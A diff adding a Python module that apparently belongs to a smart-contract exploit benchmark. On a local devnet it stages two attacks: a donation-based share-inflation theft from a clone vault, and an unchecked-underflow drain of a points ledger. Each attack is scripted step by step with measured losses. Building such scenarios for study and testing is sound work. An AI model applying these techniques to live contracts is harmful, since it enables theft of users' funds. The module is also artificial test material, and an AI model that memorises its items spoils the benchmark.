@@ -1,0 +1,124 @@
+"""Share and balance accounting: a clone vault inflated over three txs, an unchecked underflow.
+
+- `gen-clone-vault-donation` (multi-tx): a VaultFactory makes an EIP-1167 clone of CloneVault
+  (shares at the raw WETH balance, rounded down). Mallory front-runs bob in one block: a 1-wei
+  deposit (the only share) and a 10 WETH donation; bob's 10 WETH deposit then mints 0 shares. In
+  the next block she redeems her one share for the vault's whole 20 WETH + 1 wei (the exploit tx).
+- `gen-unchecked-underflow`: PointsLedger.transfer subtracts in an `unchecked` block with no
+  balance check; a 1-point transfer from an empty account wraps it to 2**256 - 1, and the
+  attacker redeems every ether the ledger holds.
+"""
+
+from __future__ import annotations
+
+from timemachine.catalog.builder import ETHER, create_address
+from timemachine.catalog.devnet import actor_address
+from timemachine.catalog.exploit import measure_exploit, mine_exploit
+from timemachine.catalog.models import ScenarioRecord
+from timemachine.catalog.scenarios.base import Scenario
+from timemachine.catalog.scenarios.generalization.kit import (
+    ATTACKER,
+    MAX,
+    bind,
+    deploy_own,
+    expect,
+)
+from timemachine.catalog.scenarios.world import World
+
+DONATION = 10 * ETHER
+VICTIM_DEPOSIT = 10 * ETHER
+POINTS = {"alice": 5, "bob": 7, "frank": 3}
+REDEEMED_POINTS = 2 * ETHER * 1_000
+"""bob redeems 2 ETH worth of points."""
+
+
+async def stage_clone_donation(world: World) -> ScenarioRecord:
+    chain, weth, a = world.chain, world.weth, actor_address
+    factory = await deploy_own(chain, "deployer", "VaultFactory", gas=3_000_000)
+    await chain.mine()
+    await factory.send("deployer", "create", weth.address, gas=400_000)
+    await chain.mine()
+    # the factory's nonce 1 created the implementation; nonce 2 the clone
+    vault = bind(chain, create_address(factory.address, 2), "CloneVault", "CloneVault (clone)")
+    expect("clone asset", await vault.call("asset"), weth.address.lower())
+    await weth.send(ATTACKER, "deposit", value=DONATION + 1)
+    await weth.send("bob", "deposit", value=VICTIM_DEPOSIT)
+    await weth.send(ATTACKER, "approve", vault.address, MAX)
+    await weth.send("bob", "approve", vault.address, MAX)
+    await chain.mine()
+
+    await vault.send(ATTACKER, "deposit", 1)
+    await weth.send(ATTACKER, "transfer", vault.address, DONATION)
+    await vault.send("bob", "deposit", VICTIM_DEPOSIT)
+    await chain.mine()
+    expect("bob's shares", await vault.call("balanceOf", a("bob")), 0)
+
+    held = DONATION + VICTIM_DEPOSIT + 1
+    outcome = await measure_exploit(
+        chain,
+        lambda: vault.send(ATTACKER, "redeem", 1),
+        attackers=[a(ATTACKER)],
+        victims=[vault.address],
+        tokens=[weth.address],
+        expected_losses={weth.address.lower(): held},
+        what="clone vault donation",
+    )
+    return CLONE_DONATION.exploited(
+        outcome, attacker=a(ATTACKER), contracts=[], victims=[vault.address]
+    )
+
+
+async def stage_unchecked_underflow(world: World) -> ScenarioRecord:
+    chain, a = world.chain, actor_address
+    ledger = await deploy_own(chain, "deployer", "PointsLedger")
+    attacker = await deploy_own(chain, ATTACKER, "PointsUnderflow")
+    await chain.mine()
+    await ledger.fund("buy", POINTS)
+    await ledger.send("bob", "redeem", REDEEMED_POINTS)
+    await chain.mine()
+    drain = await mine_exploit(
+        chain,
+        lambda: attacker.send(ATTACKER, "attack", ledger.address, gas=300_000),
+        victim=ledger.address,
+        attacker=a(ATTACKER),
+        held=(sum(POINTS.values()) - 2) * ETHER,
+        left=0,
+        what="unchecked underflow",
+    )
+    expect(
+        "wrapped balance",
+        await ledger.call("balanceOf", attacker.address),
+        MAX - drain.loss * 1_000,
+    )
+    return UNCHECKED_UNDERFLOW.exploited(
+        drain, attacker=a(ATTACKER), contracts=[attacker.address], victims=[ledger.address]
+    )
+
+
+CLONE_DONATION = Scenario(
+    id="gen-clone-vault-donation",
+    title="EIP-1167 clone vault: front-run donation, victim deposit mints 0 shares, redeem",
+    description=(
+        "A minimal-proxy clone of CloneVault prices shares at its raw WETH balance. In one "
+        "block mallory deposits 1 wei (1 share) and donates 10 WETH ahead of bob's 10 WETH "
+        "deposit, which mints 0 shares; in the next block (the exploit tx) her one share "
+        "redeems the vault's 20 WETH + 1 wei. Her net gain over the three txs is bob's 10 WETH."
+    ),
+    vulnerability_class="share_inflation",
+    stage=stage_clone_donation,
+    severity="critical",
+    loss_text="bob's whole 10 WETH deposit",
+)
+UNCHECKED_UNDERFLOW = Scenario(
+    id="gen-unchecked-underflow",
+    title="PointsLedger: an `unchecked` transfer underflows an empty balance",
+    description=(
+        "PointsLedger.transfer subtracts in an unchecked block without a balance check. "
+        "PointsUnderflow transfers 1 point from its empty balance (which wraps to 2**256 - 1) "
+        "and redeems points for all 13 ETH the ledger holds."
+    ),
+    vulnerability_class="integer_overflow",
+    stage=stage_unchecked_underflow,
+    severity="critical",
+    loss_text="every ether behind the points (13 ETH)",
+)
